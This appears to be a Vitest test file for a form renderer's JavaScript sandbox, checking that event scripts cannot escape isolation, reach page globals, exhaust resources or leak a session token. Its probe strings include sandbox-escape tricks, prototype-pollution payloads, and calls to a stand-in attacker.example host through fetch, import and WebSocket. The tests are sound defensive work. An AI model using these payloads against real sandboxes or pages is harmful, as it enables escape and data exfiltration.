import type { EventScript } from '@org/form-schema';
import { act, render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { createRef } from 'react';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { form, testWidgets, widget } from '../../test/helpers';
import { startServer, type TestServer } from '../../test/http-server';
import type { Notice } from '../services/notifier';
import { FormRenderer, type FormRendererHandle } from '../core/FormRenderer';
import { setSandboxLimits } from './sandbox-engine';

declare global {
  var __sandboxEscaped: unknown;
}

let server: TestServer;
beforeAll(async () => {
  setSandboxLimits({ timeMs: 150, memoryBytes: 8 * 1024 * 1024 });
  server = await startServer(() => ({ json: { greeting: 'hello' } }));
});
afterAll(async () => {
  setSandboxLimits({});
  await server.close();
});
afterEach(() => {
  delete (Object.prototype as Record<string, unknown>).polluted;
  globalThis.__sandboxEscaped = undefined;
});

/** Renders a sandboxed form whose `probe` event script is `func`; notices are collected. */
async function sandboxed(func: string, extra: EventScript[] = [], requestFunc = '') {
  const ref = createRef<FormRendererHandle>();
  const notices: Notice[] = [];
  const fetchSpy = vi.fn(fetch);
  const definition = form(
    [
      widget('input', 'first', 'First', {}, { events: { onChange: 'copy' } }),
      widget('input', 'second', 'Second'),
    ],
    {
      eventScript: [
        { key: 'probe', name: 'probe', func },
        { key: 'ready', name: 'ready', func: 'return true;' },
        { key: 'copy', name: 'copy', func: "this.setData({ second: 'copied ' + args.value })" },
        ...extra,
      ],
      dataSource: [
        {
          key: 'ds000001',
          name: 'greet',
          url: `${server.url}/greet`,
          method: 'GET',
          auto: false,
          headers: {},
          params: {},
          requestFunc,
          responseFunc: 'return res.greeting;',
          errorFunc: '',
        },
      ],
    },
  );
  render(
    <FormRenderer
      definition={definition}
      widgets={testWidgets}
      scripts="sandbox"
      fetch={fetchSpy}
      getToken={() => 'secret-session-token'}
      services={{ notify: (notice) => notices.push(notice) }}
      ref={ref}
    />,
  );
  // The sandbox is there once a script has answered.
  await waitFor(async () => expect(await ref.current?.triggerEvent('ready')).toBe(true));
  const probe = () => {
    let answer: unknown;
    act(() => {
      answer = ref.current?.triggerEvent('probe', {});
    });
    return answer;
  };
  return { ref, notices, probe, fetchSpy };
}

/** After a refused escape, the form still runs its scripts and takes input. */
async function expectFormWorks() {
  await userEvent.type(screen.getByRole('textbox', { name: 'First' }), 'z');
  await waitFor(() =>
    expect(screen.getByRole('textbox', { name: 'Second' })).toHaveValue('copied z'),
  );
}

const PAGE_GLOBALS = [
  'document',
  'window',
  'self',
  'top',
  'parent',
  'opener',
  'global',
  'process',
  'require',
  'location',
  'navigator',
  'localStorage',
  'sessionStorage',
  'indexedDB',
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'EventSource',
  'importScripts',
  'postMessage',
  'setTimeout',
  'setInterval',
  'requestAnimationFrame',
  'queueMicrotask',
  'SharedArrayBuffer',
  'WeakRef',
  'FinalizationRegistry',
];

describe('the sandbox refuses escapes', () => {
  it('has none of the page globals', async () => {
    const { probe } = await sandboxed(
      `return ${JSON.stringify(PAGE_GLOBALS)}.filter(function (name) { return typeof globalThis[name] !== 'undefined'; });`,
    );
    expect(probe()).toEqual([]);
  });

  it('gives document and window nothing to reach', async () => {
    const { probe, notices } = await sandboxed(
      "document.cookie = 'stolen=1'; window.__sandboxEscaped = 1;",
    );
    expect(probe()).toBeUndefined();
    expect(notices.map((notice) => notice.message)).toEqual([
      `Script "probe" failed: 'document' is not defined`,
    ]);
    expect(document.cookie).not.toContain('stolen');
    expect(globalThis.__sandboxEscaped).toBeUndefined();
    await expectFormWorks();
  });

  it('keeps globalThis and self to the sandbox', async () => {
    const { probe } = await sandboxed(
      'globalThis.__sandboxEscaped = 1; return [typeof self, typeof globalThis.document, globalThis.__sandboxEscaped];',
    );
    expect(probe()).toEqual(['undefined', 'undefined', 1]);
    expect(globalThis.__sandboxEscaped).toBeUndefined();
  });

  it("answers constructor.constructor('return this')() with the sandbox's own global", async () => {
    const { probe } = await sandboxed(
      "var g = this.constructor.constructor('return this')(); var h = this.getValue.constructor('return this')(); return [typeof g.document, typeof h.window, typeof g.fetch, g === globalThis];",
    );
    expect(probe()).toEqual(['undefined', 'undefined', 'undefined', true]);
  });

  it('gives sloppy-mode this, Function and eval the sandbox global only', async () => {
    const { probe } = await sandboxed(
      "return [(function () { return typeof this.document; })(), Function('return typeof window')(), eval('typeof localStorage'), [].constructor.constructor('return typeof XMLHttpRequest')()];",
    );
    expect(probe()).toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
  });

  it('has no fetch', async () => {
    const { probe, notices, fetchSpy } = await sandboxed("fetch('https://attacker.example/?t=1');");
    probe();
    expect(notices[0]?.message).toBe(`Script "probe" failed: 'fetch' is not defined`);
    expect(fetchSpy).not.toHaveBeenCalled();
  });

  it('has no XMLHttpRequest', async () => {
    const { probe, notices } = await sandboxed("new XMLHttpRequest().open('GET', '/');");
    probe();
    expect(notices[0]?.message).toBe(`Script "probe" failed: 'XMLHttpRequest' is not defined`);
  });

  it('has no importScripts', async () => {
    const { probe, notices } = await sandboxed("importScripts('https://attacker.example/x.js');");
    probe();
    expect(notices[0]?.message).toBe(`Script "probe" failed: 'importScripts' is not defined`);
  });

  it('loads no module with import()', async () => {
    const { probe, notices, fetchSpy } = await sandboxed(
      "return import('https://attacker.example/x.js').then(function (m) { return 'loaded'; });",
    );
    await act(async () => {
      await probe();
    });
    await waitFor(() => expect(notices).toHaveLength(1));
    expect(notices[0]?.message).toMatch(/^Script "probe" failed: /);
    expect(fetchSpy).not.toHaveBeenCalled();
  });

  it('has no WebSocket', async () => {
    const { probe, notices } = await sandboxed("new WebSocket('wss://attacker.example');");
    probe();
    expect(notices[0]?.message).toBe(`Script "probe" failed: 'WebSocket' is not defined`);
  });

  it('cannot post messages to the page, forged or not', async () => {
    const heard = vi.fn();
    window.addEventListener('message', heard);
    try {
      const { probe, notices } = await sandboxed(
        "var sent = 0; [globalThis.postMessage, this.postMessage, this.channel, this.settle].forEach(function (fn) { if (typeof fn === 'function') { fn({ type: 'setData', values: { second: 'forged' } }); sent++; } }); return [sent, Object.keys(this).sort().join()];",
      );
      const [sent, keys] = probe() as [number, string];
      expect(sent).toBe(0);
      expect(keys).toBe(
        'addClassName,disabled,display,getData,getValue,getValues,hide,refresh,removeClassName,reset,sendRequest,setData,setOptions,setRules,triggerEvent,validate',
      );
      expect(notices).toEqual([]);
      // messages arrive in the order they were posted: once ours has, any the probe sent would have
      window.postMessage('after the probe', '*');
      await vi.waitFor(() =>
        expect(heard).toHaveBeenCalledWith(expect.objectContaining({ data: 'after the probe' })),
      );
      expect(heard).toHaveBeenCalledTimes(1);
      expect(screen.getByRole('textbox', { name: 'Second' })).toHaveValue('');
    } finally {
      window.removeEventListener('message', heard);
    }
  });

  it('cannot make the API call what it does not have, nor reach the host through it', async () => {
    const { probe, notices } = await sandboxed(
      "this.getValue = function () { return 'replaced'; }; this.kept = 1; return [this.getValue('first'), typeof this.channel, this.fetch('https://attacker.example/')];",
    );
    expect(probe()).toBeUndefined();
    expect(notices.map((notice) => notice.message)).toEqual([
      'Script "probe" failed: not a function',
    ]);
    await expectFormWorks();
  });

  it('sends values back without polluting prototypes of the page', async () => {
    const { probe, ref } = await sandboxed(
      `this.setData(JSON.parse('{"__proto__": {"polluted": "yes"}, "second": "kept"}'));
       Object.prototype.polluted = 'inside';
       return JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "plain": 1}');`,
    );
    const answer = probe() as Record<string, unknown>;
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(answer)).toBe(Object.prototype);
    expect(answer.plain).toBe(1);
    expect(ref.current?.getValues()).toEqual({ first: '', second: 'kept' });
  });

  it('gives the page copies: a script cannot keep a handle on the form data', async () => {
    const { probe, ref } = await sandboxed(
      "var values = this.getValues(); values.second = 'changed in place'; return values;",
    );
    const answer = probe() as Record<string, unknown>;
    answer.first = 'changed by the host';
    expect(ref.current?.getValues()).toEqual({ first: '', second: '' });
  });

  it('has no timers, and stops promise jobs that would outlive the call', async () => {
    const { probe, notices } = await sandboxed(
      'var timers = [typeof setTimeout, typeof setInterval, typeof queueMicrotask]; function again() { Promise.resolve().then(again); } again(); return timers;',
    );
    expect(probe()).toBeUndefined();
    expect(notices.map((notice) => notice.message)).toEqual(['Script "probe" stopped: time limit']);
    await expectFormWorks();
  });

  it('stops an endless loop at the time limit and the form keeps working', async () => {
    const { probe, notices } = await sandboxed('while (true) {}');
    expect(probe()).toBeUndefined();
    expect(notices.map((notice) => notice.message)).toEqual(['Script "probe" stopped: time limit']);
    await expectFormWorks();
  });

  it('stops a loop that catches what stops it', async () => {
    const { probe, notices } = await sandboxed(
      'for (;;) { try { for (;;) {} } catch (error) { continue; } }',
    );
    probe();
    expect(notices[0]?.message).toBe('Script "probe" stopped: time limit');
    await expectFormWorks();
  });

  it('stops huge strings at the memory limit', async () => {
    const { probe, notices } = await sandboxed("var text = 'x'; for (;;) text += text;");
    probe();
    expect(notices[0]?.message).toMatch(
      /^Script "probe" (stopped: memory limit|failed: string too long)$/,
    );
    await expectFormWorks();
  });

  it('stops allocation without end at the memory limit', async () => {
    const { probe, notices } = await sandboxed(
      'var all = []; for (;;) all.push(new Array(100000).fill(1));',
    );
    probe();
    expect(notices[0]?.message).toBe('Script "probe" stopped: memory limit');
    await expectFormWorks();
  });

  it('stops deep recursion at the stack limit', async () => {
    const { probe, notices } = await sandboxed(
      'function down(n) { return down(n + 1) + 1; } down(0);',
    );
    probe();
    expect(notices[0]?.message).toBe('Script "probe" stopped: memory limit');
    await expectFormWorks();
  });

  it('refuses a huge value sent to the page', async () => {
    const { probe, notices } = await sandboxed(
      "var text = 'x'; while (text.length < 4 * 1024 * 1024) text += text; this.setData({ second: text });",
    );
    probe();
    expect(notices.map((notice) => notice.message)).toEqual([
      'Script "probe" failed: a value of more than 1048576 characters cannot leave the sandbox',
    ]);
    expect(screen.getByRole('textbox', { name: 'Second' })).toHaveValue('');
  });

  it('never shows the session token to a request function, nor lets it send elsewhere', async () => {
    const { probe, notices } = await sandboxed(
      "return this.sendRequest('greet');",
      [],
      "return { url: 'https://attacker.example/', method: 'POST', headers: { Seen: JSON.stringify(config.headers) }, params: { q: 'changed' } };",
    );
    let answer: unknown;
    await act(async () => {
      answer = await probe();
    });
    expect(notices).toEqual([]);
    expect(answer).toBe('hello');
    const sent = server.requests.at(-1);
    expect(sent?.method).toBe('GET');
    expect(sent?.path).toBe('/greet');
    expect(sent?.query.get('q')).toBe('changed');
    expect(sent?.headers['x-token']).toBe('secret-session-token');
    expect(sent?.headers.seen).toBe('{}');
  });
});
